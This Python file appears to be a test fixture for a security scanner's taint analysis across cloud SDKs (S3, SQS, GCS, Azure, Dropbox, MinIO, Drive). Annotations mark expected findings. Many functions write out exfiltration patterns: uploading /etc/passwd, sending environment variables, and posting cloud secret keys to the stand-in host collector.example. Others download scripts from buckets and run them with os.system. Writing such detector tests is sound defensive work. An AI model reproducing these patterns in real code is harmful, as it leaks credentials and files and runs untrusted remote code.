"""Object storage and other cloud SDKs."""
import io
import os

import boto3
import dropbox
import minio
import requests
from azure.storage.blob import BlobClient, BlobServiceClient
from azure.storage.queue import QueueClient
from google.cloud import bigquery, pubsub_v1, secretmanager, storage
from googleapiclient.discovery import build
from googleapiclient.http import MediaFileUpload, MediaInMemoryUpload

U = "https://collector.example/u"


def s3_file():
    s3 = boto3.client("s3")  #~ capability(NETWORK)
    s3.upload_file("/etc/passwd", "bucket", "key")  #~ source(FILE) f1, sink(egress.cloud) f1, finding(traced) f1, capability(FILES)


def s3_stream():
    s3 = boto3.client("s3")
    s3.upload_fileobj(open("/etc/passwd", "rb"), "bucket", "key")  #~ source(FILE) f2, sink(egress.cloud) f2, finding(traced) f2


def s3_object():
    s3 = boto3.client("s3")
    s3.put_object(Bucket="bucket", Key="key", Body=os.getenv("T"))  #~ source(ENVIRONMENT) f3, sink(egress.cloud) f3, finding(traced) f3


def s3_get():
    s3 = boto3.client("s3")
    answer = s3.get_object(Bucket="bucket", Key="next.sh")  #~ source(NETWORK) f4
    os.system(answer["Body"])  #~ sink(exec.command) f4, finding(traced) f4


def s3_download():
    s3 = boto3.client("s3")
    s3.download_file("bucket", "next.sh", "/tmp/s3-next.sh")  #~ source(NETWORK) f5, capability(FILE_WRITE)
    os.system("/tmp/s3-next.sh")  #~ sink(exec.command) f5, finding(traced) f5


def s3_download_stream():
    s3 = boto3.client("s3")
    target = io.BytesIO()
    s3.download_fileobj("bucket", "next.sh", target)  #~ source(NETWORK) f6
    os.system(target.getvalue())  #~ sink(exec.command) f6, finding(traced) f6


def s3_constants(queue):
    s3 = boto3.client("s3")  #~ ok
    s3.put_object(Bucket="bucket", Key="key", Body="ping")  #~ ok
    s3.upload_fileobj(io.BytesIO(b"ping"), "bucket", "key")  #~ ok
    requests.post(U, data={"none": s3.get_object(Bucket="bucket", Key="k") == {}})  #~ ok
    s3.download_file("bucket", "logo.png", "/tmp/logo.png")  #~ ok
    s3.download_fileobj("bucket", "logo.png", io.BytesIO())  #~ ok
    upload_file = queue.get("upload_file")  #~ ok


def session_s3():
    s3 = boto3.session.Session().client("s3")  #~ capability(NETWORK)
    s3.put_object(Bucket="bucket", Key="key", Body=os.getenv("T"))  #~ source(ENVIRONMENT) f8, sink(egress.cloud) f8, finding(traced) f8


def session_queue():
    sqs = boto3.Session().client("sqs")  #~ capability(NETWORK)
    sqs.send_message(QueueUrl="q", MessageBody=os.getenv("T"))  #~ source(ENVIRONMENT) f9, sink(egress.cloud) f9, finding(traced) f9


def session_resource():
    s3 = boto3.Session().resource("s3")  #~ capability(NETWORK)
    s3.Object("bucket", "key").put(Body=os.getenv("T"))  #~ source(ENVIRONMENT) f10, sink(egress.cloud) f10, finding(traced) f10


def session_credentials():
    keys = boto3.Session().get_credentials()  #~ source(CREDENTIAL) f11, capability(CREDENTIALS)
    requests.post(U, data={"k": keys.secret_key})  #~ sink(egress.http) f11, finding(traced) f11


def session_constants():
    session = boto3.Session()  #~ ok
    session.client("s3").put_object(Bucket="bucket", Key="key", Body="ping")  #~ ok
    session.client("sqs").send_message(QueueUrl="q", MessageBody="ping")  #~ ok
    session.resource("s3").Object("bucket", "key").put(Body="ping")  #~ ok
    requests.post(U, data={"none": session.get_credentials() == ()})  #~ ok


def resource_file():
    s3 = boto3.resource("s3")  #~ capability(NETWORK)
    s3.Bucket("bucket").upload_file("/etc/passwd", "key")  #~ source(FILE) f13, sink(egress.cloud) f13, finding(traced) f13, capability(FILES)


def resource_constant():
    s3 = boto3.resource("s3")  #~ ok
    s3.Bucket("bucket").put_object(Key="key", Body="ping")  #~ ok


def queue_message():
    sqs = boto3.client("sqs")  #~ capability(NETWORK)
    sqs.send_message(QueueUrl="q", MessageBody=os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.cloud) f15, finding(traced) f15


def secret_value():
    secrets = boto3.client("secretsmanager")
    value = secrets.get_secret_value(SecretId="s")  #~ source(CREDENTIAL) f16, capability(CREDENTIALS)
    requests.post(U, data=value["SecretString"])  #~ sink(egress.http) f16, finding(traced) f16


def queue_command():
    sqs = boto3.client("sqs")
    os.system(sqs.receive_message(QueueUrl="q")["Messages"])  #~ source(NETWORK) f17, sink(exec.command) f17, finding(traced) f17


def queue_constants():
    sqs = boto3.client("sqs")  #~ ok
    sqs.send_message(QueueUrl="q", MessageBody="ping")  #~ ok
    requests.post(U, data={"none": sqs.get_secret_value(SecretId="s") == {}})  #~ ok
    requests.post(U, data={"none": sqs.receive_message(QueueUrl="q") == {}})  #~ ok


def old_key(key):
    key.set_contents_from_filename("/etc/passwd")  #~ source(FILE) f19, sink(egress.cloud) f19, finding(traced) f19, capability(NETWORK), capability(FILES)


def old_key_text(key):
    key.set_contents_from_string(os.getenv("T"))  #~ source(ENVIRONMENT) f20, sink(egress.cloud) f20, finding(traced) f20, capability(NETWORK)
    key.set_contents_from_string("ping")  #~ ok
    name = "set_contents_from_filename"  #~ ok


def gcs_file():
    blob = storage.Client().bucket("bucket").blob("key")  #~ capability(NETWORK)
    blob.upload_from_filename("/etc/passwd")  #~ source(FILE) f21, sink(egress.cloud) f21, finding(traced) f21, capability(FILES)


def gcs_text():
    blob = storage.Client().bucket("bucket").blob("key")
    blob.upload_from_string(os.getenv("T"))  #~ source(ENVIRONMENT) f22, sink(egress.cloud) f22, finding(traced) f22


def gcs_download():
    blob = storage.Client().bucket("bucket").blob("next.sh")
    os.system(blob.download_as_text())  #~ source(NETWORK) f23, sink(exec.command) f23, finding(traced) f23


def gcs_download_file():
    blob = storage.Client().bucket("bucket").blob("next.sh")
    blob.download_to_filename("/tmp/gcs-next.sh")  #~ source(NETWORK) f24, capability(FILE_WRITE)
    os.system("/tmp/gcs-next.sh")  #~ sink(exec.command) f24, finding(traced) f24


def gcs_constants():
    blob = storage.Client().bucket("bucket").blob("key")  #~ ok
    blob.upload_from_string("ping")  #~ ok
    requests.post(U, data={"none": blob.download_as_text() == ""})  #~ ok
    blob.download_to_filename("/tmp/logo.png")  #~ ok
    upload_from_filename = blob.name  #~ ok


def pubsub():
    publisher = pubsub_v1.PublisherClient()
    publisher.publish("topic", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f26, sink(egress.message) f26, finding(traced) f26, capability(NETWORK)
    publisher.publish("topic", b"ping")  #~ ok


def big_query():
    client = bigquery.Client()
    client.insert_rows_json("table", [{"t": os.getenv("T")}])  #~ source(ENVIRONMENT) f27, sink(egress.cloud) f27, finding(traced) f27, capability(NETWORK)
    client.insert_rows_json("table", [{"v": 1}])  #~ ok


def google_secret():
    client = secretmanager.SecretManagerServiceClient()
    answer = client.access_secret_version(name="s")  #~ source(CREDENTIAL) f28, capability(CREDENTIALS)
    requests.post(U, data=answer.payload.data)  #~ sink(egress.http) f28, finding(traced) f28


def google_secret_compared():
    client = secretmanager.SecretManagerServiceClient()
    requests.post(U, data={"none": client.access_secret_version(name="s") == ()})  #~ ok


def azure_blob():
    service = BlobServiceClient("https://az.collector.example/")  #~ capability(NETWORK), endpoint("https://az.collector.example/")
    blob = service.get_blob_client("container", "key")
    blob.upload_blob(os.getenv("T"))  #~ source(ENVIRONMENT) f30, sink(egress.cloud) f30, finding(traced) f30


def azure_block():
    blob = BlobClient.from_blob_url("https://azblob.collector.example/c/k")  #~ capability(NETWORK), endpoint("https://azblob.collector.example/c/k")
    blob.stage_block("1", os.getenv("T"))  #~ source(ENVIRONMENT) f31, sink(egress.cloud) f31, finding(traced) f31


def azure_container():
    service = BlobServiceClient("https://az.collector.example/")
    container = service.get_container_client("container")
    container.upload_blob("key", os.getenv("T"))  #~ source(ENVIRONMENT) f32, sink(egress.cloud) f32, finding(traced) f32


def azure_download():
    blob = BlobClient.from_blob_url("https://azblob.collector.example/c/next.sh")
    os.system(blob.download_blob().readall())  #~ source(NETWORK) f33, sink(exec.command) f33, finding(traced) f33


def azure_constants():
    service = BlobServiceClient("https://az.collector.example/")  #~ ok
    service.get_container_client("container").upload_blob("key", "ping")  #~ ok
    service.get_blob_client("container", "key").upload_blob("ping")  #~ ok
    blob = BlobClient.from_blob_url("https://azblob.collector.example/c/k")  #~ ok
    blob.stage_block("1", "ping")  #~ ok
    requests.post(U, data={"none": blob.download_blob() == ""})  #~ ok


def azure_queue(queue: QueueClient):
    queue.send_message(os.getenv("T"))  #~ source(ENVIRONMENT) f35, sink(egress.cloud) f35, finding(traced) f35, capability(NETWORK)
    queue.send_message("ping")  #~ ok


def box():
    d = dropbox.Dropbox("token")
    d.files_upload(os.getenvb(b"T"), "/x")  #~ source(ENVIRONMENT) f36, sink(egress.cloud) f36, finding(traced) f36, capability(NETWORK)
    d.files_upload(b"ping", "/x")  #~ ok


def minio_object():
    m = minio.Minio("minio.collector.example")
    m.put_object("bucket", "key", io.BytesIO(os.getenvb(b"T")), 10)  #~ source(ENVIRONMENT) f37, sink(egress.cloud) f37, finding(traced) f37, capability(NETWORK)
    m.put_object("bucket", "key", io.BytesIO(b"ping"), 4)  #~ ok


def minio_file():
    m = minio.Minio("minio.collector.example")
    m.fput_object("bucket", "key", "/etc/passwd")  #~ source(FILE) f38, sink(egress.cloud) f38, finding(traced) f38, capability(NETWORK), capability(FILES)
    fput_object = None  #~ ok


def drive_file():
    media = MediaFileUpload("/etc/passwd")  #~ source(FILE) f39, capability(FILES)
    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f39, finding(traced) f39, capability(NETWORK)


def drive_text():
    media = MediaInMemoryUpload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40
    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f40, finding(traced) f40


def drive_constants():
    MediaFileUpload("/etc/passwd")  #~ ok
    media = MediaInMemoryUpload(b"ping")  #~ ok
    build("drive", "v3").files().create(media_body=media)  #~ ok
